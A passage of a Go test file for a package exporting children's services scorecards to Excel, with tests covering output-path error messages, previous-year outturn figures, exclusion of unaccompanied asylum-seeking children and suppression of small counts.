	h, _ := demoHistory(t)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "plain"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	ro := filepath.Join(dir, "ro")
	if err := os.Mkdir(ro, 0o555); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, path string
		opt        Options
		want       string // what the error must say after the path
		skipRoot   bool   // root may write into a read-only folder
	}{
		{"read-only folder", filepath.Join(ro, "x.xlsx"), Options{}, "cannot write here: permission denied", true},
		{"missing folder", filepath.Join(dir, "none", "x.xlsx"), Options{}, "cannot write here: no such file or directory", false},
		{"folder is a file", filepath.Join(dir, "plain", "x.xlsx"), Options{}, "cannot write here: not a directory", false},
		{"csv name", filepath.Join(dir, "y.csv"), Options{}, "not an .xlsx or .pdf file name", false},
		{"no extension", filepath.Join(dir, "scorecard"), Options{}, "not an .xlsx or .pdf file name", false},
		{"original missing", filepath.Join(dir, "z.xlsx"), Options{Original: filepath.Join(dir, "gone.xlsx")}, "cannot read it: no such file", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.skipRoot && os.Geteuid() == 0 {
				t.Skip("root writes into a read-only folder")
			}
			_, err := Write(context.Background(), tt.path, h, tt.opt)
			if err == nil {
				t.Fatal("succeeded")
			}
			msg := err.Error()
			if !strings.HasPrefix(msg, tt.path+": ") || strings.Count(msg, filepath.Base(tt.path)) != 1 {
				t.Errorf("%q: want %q named once, at the start", msg, tt.path)
			}
			if !strings.Contains(msg, tt.want) || strings.Contains(msg, ".tmp") {
				t.Errorf("%q: want it to say %q and not name the temporary file", msg, tt.want)
			}
		})
	}
	if _, err := Write(context.Background(), filepath.Join(dir, "y.csv"), h, Options{}); !errors.Is(err, ErrNotXLSX) {
		t.Errorf("y.csv: %v, want ErrNotXLSX", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "y.csv")); !os.IsNotExist(err) {
		t.Error("y.csv was written")
	}
	if _, err := Write(context.Background(), filepath.Join(dir, "UPPER.XLSX"), h, Options{}); err != nil {
		t.Errorf("UPPER.XLSX: %v", err)
	}
}

// TestOutturnExcluding checks the Scorecard's previous-year outturn:
// all children's outturn where nothing is excluded; excluding UASC, the
// year's own figure recomputed without them where the history holds
// the year's figures for all and for UASC, and otherwise "cannot
// exclude" with the reason, never all children's outturn under an
// excluding title.
func TestOutturnExcluding(t *testing.T) {
	h, m := demoHistory(t)
	// CIC01's 2025/26 figures for all children and UASC let its outturn
	// be recomputed: 1893 - 425 = 1468.
	year := app.Indicator{}.TargetYear(m.Latest()).Add(-1)
	if ind, _ := h.Indicator("CIC01"); ind.YearType != app.FinancialYear && ind.YearType != 0 {
		t.Fatalf("CIC01 runs by %v years", ind.YearType)
	}
	h.Apply(&app.Dataset{Observations: []app.Observation{
		{Ref: "CIC01", Area: app.Kent, Period: year, Value: app.Float(1893), Numerator: app.Float(1893)},
		{Ref: "CIC01", Area: app.Kent, Split: app.Only(app.UASC), Period: year, Value: app.Float(425), Numerator: app.Float(425)},
	}}, "I0003")
	tests := []struct {
		name    string
		exclude []app.Cohort
	}{{"all children", nil}, {"excluding UASC", []app.Cohort{app.UASC}}}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, _ := export(t, h, Options{Exclude: tt.exclude})
			shown, cannot := 0, 0
			for _, ind := range h.Indicators() {
				y := ind.TargetYear(m.Latest()).Add(-1)
				var all *float64
				for _, bm := range h.Benchmarks(ind.Ref) {
					if bm.Group == app.OutturnGroup && bm.Period == y {
						all = bm.Value
					}
				}
				if all == nil {
					continue
				}
				at := cell(5, sheetRow(t, f, ScorecardSheet, ind.Ref))
				got, _ := f.GetCellValue(ScorecardSheet, at, excelize.Options{RawCellValue: true})
				want := cellNumber(ind, *all)
				if tt.exclude != nil && ind.Ref == "CIC01" {
					want = 1468
				} else if tt.exclude != nil {
					if got != string(app.CannotExclude) || !hasComment(f, ScorecardSheet, at, "Cannot exclude: the "+y.Label()+" outturn is for all children") {
						t.Errorf("%s outturn %s = %q, want cannot exclude with the reason", ind.Ref, at, got)
					}
					cannot++
					continue
				}
				if v := numberAt(t, f, ScorecardSheet, at); math.Abs(v-want) > 1e-9 {
					t.Errorf("%s outturn %s = %v, want %v", ind.Ref, at, v, want)
				}
				shown++
			}
			if shown == 0 || (tt.exclude != nil && cannot == 0) {
				t.Errorf("%d outturns shown, %d cannot exclude: the check proves nothing", shown, cannot)
			}
		})
	}
}

// TestOutturnFromYearFigure checks that where no outturn benchmark was
// given, the previous-year outturn is the year's own figure: the first
// scorecard of a year gives its two previous years beside April, and
// the 2023/24 figure is April 2024's previous-year outturn, not March's
// figure nor nothing.
func TestOutturnFromYearFigure(t *testing.T) {
	h := app.NewHistory()
	h.AddIndicator(app.Indicator{Ref: "CIC01", Name: "Number of children in care", Unit: app.Number, Polarity: app.LowerBetter, Section: "One"})
	fy := func(y int) app.Period { return app.Period{Kind: app.FinancialYear, Year: y} }
	for _, o := range []app.Observation{
		{Period: fy(2022), Value: app.Float(1800)},
		{Period: fy(2023), Value: app.Float(1750)},
		{Period: app.MonthOf(2024, 4), Value: app.Float(1700)},
	} {
		o.Ref, o.Area = "CIC01", app.Kent
		h.Add(o)
	}
	f, sum := export(t, h, Options{})
	if sum.Period != app.MonthOf(2024, 4) {
		t.Fatalf("exported %s, want April 2024", sum.Period)
	}
	r := sheetRow(t, f, ScorecardSheet, "CIC01")
	if v := numberAt(t, f, ScorecardSheet, cell(5, r)); v != 1750 {
		t.Errorf("previous-year outturn %v, want 2023/24's 1750", v)
	}
	// The twelve months' columns follow the fixed ones, April's last.
	mar := len(scorecardCols) + 11
	for i, p := range []app.Period{app.MonthOf(2024, 3), app.MonthOf(2024, 4)} {
		at := cell(mar+i, r)
		got, _ := f.GetCellValue(ScorecardSheet, at, excelize.Options{RawCellValue: true})
		if want := []string{"", "1700"}[i]; got != want {
			t.Errorf("%s at %s = %q, want %q", p.Label(), at, got, want)
		}
	}
}

// TestSuppressedFiguresLoseComponents checks the Data sheet never shows
// the numerator or denominator of a suppressed figure, whether the
// source marked it "c" or the export's threshold did: 120 of 124 reveals
// the 4 children not meeting the measure.
func TestSuppressedFiguresLoseComponents(t *testing.T) {
	h, m := demoHistory(t)
	p := m.Latest()
	h.Apply(&app.Dataset{Observations: []app.Observation{
		{Ref: "CIC03", Area: app.Districts[0], Period: p, Status: app.Suppressed, Raw: "c", Numerator: app.Float(5), Denominator: app.Float(10)},
		{Ref: "CIC03", Area: app.Districts[1], Period: p, Value: app.Float(96.77), Numerator: app.Float(120), Denominator: app.Float(124)},
	}}, "I0003")
	tests := []struct {
		name     string
		suppress int
		want     map[app.Area]string // Data sheet's value column
	}{
		{"no threshold", 0, map[app.Area]string{app.Districts[0]: "c", app.Districts[1]: "96.77"}},
		{"threshold 5", 5, map[app.Area]string{app.Districts[0]: "c", app.Districts[1]: "c"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, _ := export(t, h, Options{Suppress: tt.suppress})
			rows, _ := f.GetRows(DataSheet, excelize.Options{RawCellValue: true})
			found := 0
			for _, r := range rows[2:] {
				r = append(r, make([]string, len(DataHeader))...)
				area := app.Area(r[2])
				want, ok := tt.want[area]
				if r[0] != "CIC03" || r[1] != p.String() || r[3] != "All" || !ok {
					continue
				}
				found++
				got := r[6]
				if r[7] != "" {
					got = r[7]
				}
				if got != want {
					t.Errorf("%s: %q, want %q", area, got, want)
				}
				if got == "c" && (r[4] != "" || r[5] != "") {
					t.Errorf("%s: suppressed, but shows numerator %q and denominator %q", area, r[4], r[5])
				}
			}
			if found != len(tt.want) {
				t.Errorf("found %d of the %d rows", found, len(tt.want))
			}
		})
	}
}

// TestOutturnOfTheLaterImport: where a workbook's outturn column and a
// figure for the same year both stand, the later import's is the
// previous-year outturn: a correction of the year after the workbook,
// or a workbook's outturn after an earlier annual file.
func TestOutturnOfTheLaterImport(t *testing.T) {
	fy := app.Period{Kind: app.FinancialYear, Year: 2023}
	outturn := &app.Dataset{Benchmarks: []app.Benchmark{{Ref: "CIC01", Period: fy, Group: app.OutturnGroup, Value: app.Float(1893)}}}
	year := &app.Dataset{Observations: []app.Observation{{Ref: "CIC01", Area: app.Kent, Period: fy, Value: app.Float(1800)}}}
	for _, tt := range []struct {
		name          string
		first, second *app.Dataset
		want          float64
	}{
		{"a correction after the workbook", outturn, year, 1800},
		{"the workbook after an annual file", year, outturn, 1893},
	} {
		t.Run(tt.name, func(t *testing.T) {
			h := app.NewHistory()
			h.AddIndicator(app.Indicator{Ref: "CIC01", Name: "Number of children in care", Unit: app.Number, Polarity: app.LowerBetter, Section: "One"})
			h.Add(app.Observation{Ref: "CIC01", Area: app.Kent, Period: app.MonthOf(2024, 4), Value: app.Float(1700)})
			h.Apply(tt.first, "I0002")
			h.Apply(tt.second, "I0010")
			f, _ := export(t, h, Options{})
			if v := numberAt(t, f, ScorecardSheet, cell(5, sheetRow(t, f, ScorecardSheet, "CIC01"))); v != tt.want {
				t.Errorf("previous-year outturn %v, want %v", v, tt.want)
			}
		})
	}
}

// TestGuidanceRuleOfWhatCannotExclude: the Guidance sheet's "Exclusion
// rule used" names the rule an indicator's figures excluding UASC were
// worked by, and says of one none of whose figures could exclude UASC (a
// median) that it excludes nobody, not "as the source counted them"
// (QA10).
func TestGuidanceRuleOfWhatCannotExclude(t *testing.T) {
	h := app.NewHistory()
	oct := app.MonthOf(2026, time.October)
	uasc := app.Only(app.UASC)
	h.Apply(&app.Dataset{
		Indicators: []app.Indicator{
			{Ref: "C1", Name: "Children in care", Unit: app.Number, Measure: app.Count},
			{Ref: "M1", Name: "Median days to a plan", Unit: app.Days, Measure: app.Median},
		},
		Observations: []app.Observation{
			{Ref: "C1", Area: app.Kent, Period: oct, Value: app.Float(100)},
			{Ref: "C1", Area: app.Kent, Split: uasc, Period: oct, Value: app.Float(8)},
			{Ref: "M1", Area: app.Kent, Period: oct, Value: app.Float(40)},
			{Ref: "M1", Area: app.Kent, Split: uasc, Period: oct, Value: app.Float(30)},
		},
	}, "I0001")
	f, _ := export(t, h, Options{Exclude: []app.Cohort{app.UASC}})
	for ref, want := range map[string]string{
		"C1": "excluding UASC as the source counted them",
		"M1": "none: its figures cannot exclude the cohort",
	} {
		got, _ := f.GetCellValue(GuidanceSheet, cell(8, sheetRow(t, f, GuidanceSheet, ref)))
		if !strings.HasPrefix(got, want) {
			t.Errorf("%s's exclusion rule %q, want it to begin %q", ref, got, want)
		}
	}
}

// TestLastYearCannotExclude: beside figures excluding UASC, the same
// month last year that gave no UASC figure says "cannot exclude", with
// why, rather than a blank that reads as no figure (QA10 g14).
func TestLastYearCannotExclude(t *testing.T) {
	h := app.NewHistory()
	oct := app.MonthOf(2026, time.October)
	before := app.MonthOf(2025, time.October)
	uasc := app.Only(app.UASC)
	h.Apply(&app.Dataset{
		Indicators: []app.Indicator{{Ref: "C1", Name: "Children in care", Unit: app.Number, Measure: app.Count}},
		Observations: []app.Observation{
			{Ref: "C1", Area: app.Kent, Period: before, Value: app.Float(90)},
			{Ref: "C1", Area: app.Kent, Period: oct, Value: app.Float(100)},
			{Ref: "C1", Area: app.Kent, Split: uasc, Period: oct, Value: app.Float(8)},
		},
	}, "I0001")
	f, _ := export(t, h, Options{Exclude: []app.Cohort{app.UASC}})
	at := cell(headerCol(t, f, "Same month last year"), sheetRow(t, f, ScorecardSheet, "C1"))
	if got, _ := f.GetCellValue(ScorecardSheet, at); got != string(app.CannotExclude) {
		t.Errorf("same month last year %s = %q, want %q", at, got, app.CannotExclude)
	}
	if !hasComment(f, ScorecardSheet, at, "Cannot exclude: the source gives no figure for unaccompanied asylum-seeking children (UASC)") {
		t.Errorf("same month last year %s has no note saying why", at)
	}
}
